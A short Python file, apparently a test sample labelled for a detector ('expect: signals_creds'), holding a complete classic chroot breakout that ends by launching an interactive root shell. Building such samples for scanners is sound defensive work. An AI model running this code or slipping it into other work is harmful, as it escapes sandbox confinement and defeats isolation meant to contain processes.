# expect: signals_creds; classic chroot breakout: chroot into a subdir, chdir("..") repeatedly, chroot(".")
import os

os.makedirs("jail-break", exist_ok=True)
fd = os.open(".", os.O_RDONLY)
os.chroot("jail-break")
os.fchdir(fd)
for _ in range(64):
    os.chdir("..")
os.chroot(".")
os.execl("/bin/sh", "sh", "-i")
